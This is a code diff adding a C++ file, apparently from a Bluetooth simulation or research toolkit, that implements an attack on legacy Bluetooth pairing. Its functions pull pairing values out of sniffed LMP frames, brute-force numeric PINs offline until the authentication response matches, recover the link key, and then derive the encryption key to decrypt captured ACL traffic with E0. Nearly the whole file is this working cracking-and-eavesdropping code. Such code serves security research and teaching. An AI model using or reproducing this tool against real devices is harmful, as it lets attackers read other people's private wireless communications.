@@ -1,0 +1,179 @@
+#include "core/air_analysis.hpp"
+
+#include "crypto/e0.hpp"
+
+namespace blap::core {
+
+namespace {
+crypto::LinkKey xor16(const crypto::LinkKey& a, const crypto::LinkKey& b) {
+  crypto::LinkKey out{};
+  for (std::size_t i = 0; i < out.size(); ++i) out[i] = a[i] ^ b[i];
+  return out;
+}
+
+crypto::Rand128 to_rand128(BytesView v) {
+  crypto::Rand128 out{};
+  std::copy_n(v.begin(), std::min<std::size_t>(v.size(), 16), out.begin());
+  return out;
+}
+}  // namespace
+
+std::optional<LegacyPairingCapture> parse_legacy_pairing(
+    const std::vector<radio::SniffedFrame>& frames) {
+  LegacyPairingCapture capture;
+  bool have_in_rand = false, have_comb_i = false, have_comb_r = false;
+  bool have_au_rand = false, have_sres = false;
+  BdAddr au_rand_sender;
+
+  for (const auto& frame : frames) {
+    auto pdu = controller::LmpPdu::from_air_frame(frame.frame);
+    if (!pdu) continue;
+    switch (pdu->opcode) {
+      case controller::LmpOpcode::kInRand:
+        capture.initiator = frame.sender;
+        capture.responder = frame.receiver;
+        capture.in_rand = to_rand128(pdu->payload);
+        have_in_rand = true;
+        break;
+      case controller::LmpOpcode::kCombKey: {
+        if (!have_in_rand || pdu->payload.size() < 16) break;
+        crypto::LinkKey masked{};
+        std::copy_n(pdu->payload.begin(), 16, masked.begin());
+        if (frame.sender == capture.initiator) {
+          capture.masked_comb_initiator = masked;
+          have_comb_i = true;
+        } else {
+          capture.masked_comb_responder = masked;
+          have_comb_r = true;
+        }
+        break;
+      }
+      case controller::LmpOpcode::kAuRand:
+        if (have_comb_i && have_comb_r && !have_au_rand) {
+          capture.au_rand = to_rand128(pdu->payload);
+          capture.claimant = frame.receiver;  // the claimant answers; its
+                                              // address feeds E1
+          au_rand_sender = frame.sender;
+          have_au_rand = true;
+        }
+        break;
+      case controller::LmpOpcode::kSres:
+        if (have_au_rand && !have_sres && frame.sender == capture.claimant &&
+            pdu->payload.size() >= 4) {
+          std::copy_n(pdu->payload.begin(), 4, capture.sres.begin());
+          have_sres = true;
+        }
+        break;
+      default:
+        break;
+    }
+  }
+  if (!(have_in_rand && have_comb_i && have_comb_r && have_au_rand && have_sres))
+    return std::nullopt;
+  return capture;
+}
+
+std::optional<crypto::LinkKey> try_pin(const LegacyPairingCapture& capture,
+                                       const std::string& pin) {
+  const Bytes pin_bytes(pin.begin(), pin.end());
+  const crypto::LinkKey kinit =
+      crypto::e22(capture.in_rand, pin_bytes, capture.initiator);
+  const crypto::LinkKey lk_rand_i = xor16(capture.masked_comb_initiator, kinit);
+  const crypto::LinkKey lk_rand_r = xor16(capture.masked_comb_responder, kinit);
+  const crypto::LinkKey candidate =
+      crypto::combination_key(crypto::e21(lk_rand_i, capture.initiator),
+                              crypto::e21(lk_rand_r, capture.responder));
+  const auto check = crypto::e1(candidate, capture.au_rand, capture.claimant);
+  if (ct_equal(BytesView(check.sres.data(), check.sres.size()),
+               BytesView(capture.sres.data(), capture.sres.size()))) {
+    return candidate;
+  }
+  return std::nullopt;
+}
+
+PinCrackResult crack_pin(const LegacyPairingCapture& capture, std::size_t max_digits) {
+  PinCrackResult result;
+  // Enumerate numeric PINs the way users choose them: by length, counting up.
+  for (std::size_t digits = 1; digits <= max_digits; ++digits) {
+    std::uint64_t limit = 1;
+    for (std::size_t d = 0; d < digits; ++d) limit *= 10;
+    for (std::uint64_t n = 0; n < limit; ++n) {
+      std::string pin = std::to_string(n);
+      pin.insert(pin.begin(), digits - pin.size(), '0');
+      ++result.attempts;
+      if (auto key = try_pin(capture, pin)) {
+        result.found = true;
+        result.pin = std::move(pin);
+        result.link_key = *key;
+        return result;
+      }
+    }
+  }
+  return result;
+}
+
+std::optional<std::vector<DecryptedPayload>> decrypt_captured_traffic(
+    const std::vector<radio::SniffedFrame>& frames, const crypto::LinkKey& link_key) {
+  // Pass 1: reconstruct the security context the controllers negotiated —
+  // the last challenge before encryption start gives the ACO; the
+  // LMP_start_encryption_req gives EN_RAND; the sender of
+  // LMP_host_connection_req is the master (its BD_ADDR keys E0).
+  std::optional<BdAddr> master;
+  std::optional<crypto::Aco> aco;
+  std::optional<crypto::Rand128> en_rand;
+  bool encrypted = false;
+  SimTime encryption_start = 0;
+
+  for (const auto& frame : frames) {
+    auto pdu = controller::LmpPdu::from_air_frame(frame.frame);
+    if (!pdu) continue;
+    switch (pdu->opcode) {
+      case controller::LmpOpcode::kHostConnectionReq:
+        master = frame.sender;
+        break;
+      case controller::LmpOpcode::kAuRand: {
+        if (encrypted) break;
+        // The receiver answers this challenge; E1 binds ITS address.
+        const auto out = crypto::e1(link_key, to_rand128(pdu->payload), frame.receiver);
+        aco = out.aco;
+        break;
+      }
+      case controller::LmpOpcode::kStartEncryptionReq:
+        en_rand = to_rand128(pdu->payload);
+        break;
+      case controller::LmpOpcode::kAccepted:
+        if (!pdu->payload.empty() &&
+            pdu->payload[0] ==
+                static_cast<std::uint8_t>(controller::LmpOpcode::kStartEncryptionReq)) {
+          encrypted = true;
+          encryption_start = frame.timestamp_us;
+        }
+        break;
+      default:
+        break;
+    }
+  }
+  if (!master || !aco || !en_rand || !encrypted) return std::nullopt;
+
+  const crypto::EncryptionKey kc = crypto::e3(link_key, *en_rand, *aco);
+
+  // Pass 2: decrypt every post-encryption ACL frame, tracking each
+  // direction's E0 packet counter exactly as the controllers do.
+  std::vector<DecryptedPayload> out;
+  std::uint32_t counter_from_master = 0;
+  std::uint32_t counter_from_slave = 0;
+  for (const auto& frame : frames) {
+    if (frame.timestamp_us < encryption_start) continue;
+    auto acl = controller::parse_acl_air_frame(frame.frame);
+    if (!acl) continue;
+    std::uint32_t& counter =
+        (frame.sender == *master) ? counter_from_master : counter_from_slave;
+    crypto::E0Cipher cipher(kc, *master, counter++);
+    Bytes plaintext = std::move(*acl);
+    cipher.crypt(plaintext);
+    out.push_back(DecryptedPayload{frame.timestamp_us, frame.sender, std::move(plaintext)});
+  }
+  return out;
+}
+
+}  // namespace blap::core
